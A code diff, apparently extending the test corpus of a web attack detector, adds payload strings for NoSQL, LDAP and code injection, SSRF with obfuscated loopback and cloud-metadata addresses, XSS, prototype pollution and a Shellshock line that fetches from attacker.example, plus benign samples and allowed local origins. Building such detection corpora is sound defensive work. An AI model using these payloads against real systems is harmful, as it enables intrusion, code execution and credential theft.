@@ -41,6 +41,7 @@ ATTACKS: dict[str, list[str]] = {
         "1 AND updatexml(1,concat(0x7e,database()),1)",
     ],
     "nosqli": [
+        '{"login": {"$nin": []}, "pw": {"$gt": ""}}',
         '{"username": {"$ne": ""}, "password": {"$ne": ""}}',
         '{"email": {"$regex": "^adm"}, "pin": {"$gt": ""}}',
         '{"$where": "this.credits > 100 || true"}',
@@ -93,6 +94,16 @@ ATTACKS: dict[str, list[str]] = {
         "|| cmd.exe /c whoami",
     ],
     "code_injection": [
+        "process.binding('spawn_sync').spawn({file: 'id'})",
+        "import os;os.system('uname')",
+        "obj.send(:system, 'id')",
+        "qx{id}",
+        "ERB.new(params[:t]).result",
+        "@java.lang.Runtime@getRuntime().exec('id')",
+        "#_memberAccess['allowStaticMethodAccess']=true",
+        "x.getClass().forName('javax.script.ScriptEngineManager')",
+        "pickle.loads(payload)",
+        "this['constructor']['constructor']('return process')()",
         "__import__('subprocess').check_output('id', shell=True)",
         "eval(compile('import os; os.system(\"id\")', 'x', 'exec'))",
         "().__class__.__base__.__subclasses__()",
@@ -147,6 +158,14 @@ ATTACKS: dict[str, list[str]] = {
         "http:\\\\attacker.example\\share\\x.php",
     ],
     "ssrf": [
+        "http://127。0。0。1/",
+        "http://7f000001.nip.io/",
+        "http://7f000001.c0a80001.rbndr.us/",
+        "http:\\\\localhost\\admin",
+        "gopher://10.0.0.9:11211/_stats",
+        "http://0177.0.0.1:8080/",
+        "http://[::ffff:169.254.169.254]/latest/",
+        "//0x7f.1/",
         "http://127.0.0.1:6379/",
         "http://localhost:8500/v1/agent/self",
         "http://169.254.169.254/latest/api/token",
@@ -215,6 +234,10 @@ ATTACKS: dict[str, list[str]] = {
         "[[${7*7}]]",
     ],
     "ldapi": [
+        "guest)(|(sn>=a)",
+        "bob)(uid:dn:2.5.13.5:=bob)",
+        "*)(!(objectCategory=computer)",
+        "nobody)|(mail=*",
         "*)(uid=*))(|(uid=*",
         "admin)(&)",
         "*)(|(objectClass=*)",
@@ -227,6 +250,12 @@ ATTACKS: dict[str, list[str]] = {
         "*(|(objectclass=*))",
     ],
     "xss": [
+        "(alert)(1)",
+        "<x onpointerrawupdate=alert(1)>",
+        "<base href=//attacker.example/>",
+        '" onfocusin=alert(1) autofocus x="',
+        "<embed src=javascript:alert(1)>",
+        "top[(confirm)](1)",
         "<script>alert(document.domain)</script>",
         "<img src=x onerror=alert(1)>",
         "<svg/onload=confirm(1)>",
@@ -295,11 +324,13 @@ ATTACKS: dict[str, list[str]] = {
         "${j${k8s:k5:-ND}i:ldap://attacker.example/c}",
     ],
     "prototype_pollution": [
+        '{"user": {"constructor": {"prototype": {"isAdmin": true}}}}',
         '{"__proto__": {"isAdmin": true}}',
         '{"constructor": {"prototype": {"role": "admin"}}}',
         '{"a": {"__proto__": {"polluted": 1}}}',
     ],
     "shell_shock": [
+        "() { ignored; }; /usr/bin/wget http://attacker.example/x",
         "() { :; }; echo; /bin/cat /etc/passwd",
         "() { :;}; /usr/bin/id",
         "() { _; } >_[$($())] { id; }",
@@ -343,6 +374,13 @@ BENIGN_PROSE = [
     "My email is first.last@example.org if you need it.",
 ]
 BENIGN_CODE = [
+    "if (confirm('Delete this item?')) { remove(id); }",
+    "const { data } = await axios.get(`/api/items/${id}`);",
+    "result = subprocess.run(args, capture_output=True)  # see the docs",
+    "Map<String, List<Integer>> byDay = new HashMap<>();",
+    "user.constructor.name === 'Admin'",
+    "filter = f'(uid={escape_filter_chars(name)})'",
+    "process.env.NODE_ENV === 'production'",
     "SELECT name, email FROM customers WHERE created_at > '2024-01-01' ORDER BY name;",
     "for (let i = 0; i < items.length; i++) { total += items[i].price; }",
     "def greet(name):\n    return f'Hello, {name}!'",
@@ -440,4 +478,14 @@ BENIGN_GRAPHQL = [
     "mutation UpdateName($id: ID!, $name: String!) { updateUser(id: $id, name: $name) { id name } }",
     "query Search($q: String) { search(query: $q) { ... on Product { id title price } } }",
     '{ products(filter: {category: "shoes", inStock: true}) { edges { node { id } } } }',
+]
+# Pages that open a WebSocket or make a CORS call name themselves in Origin and Referer; a front end
+# served on this machine or the local network is ordinary (a developer's, a NAS's, a router's).
+BROWSER_ORIGINS = [
+    "http://localhost:3000",
+    "http://127.0.0.1:8080",
+    "http://[::1]:5173",
+    "http://192.168.1.20",
+    "https://app.example.com",
+    "null",
 ]
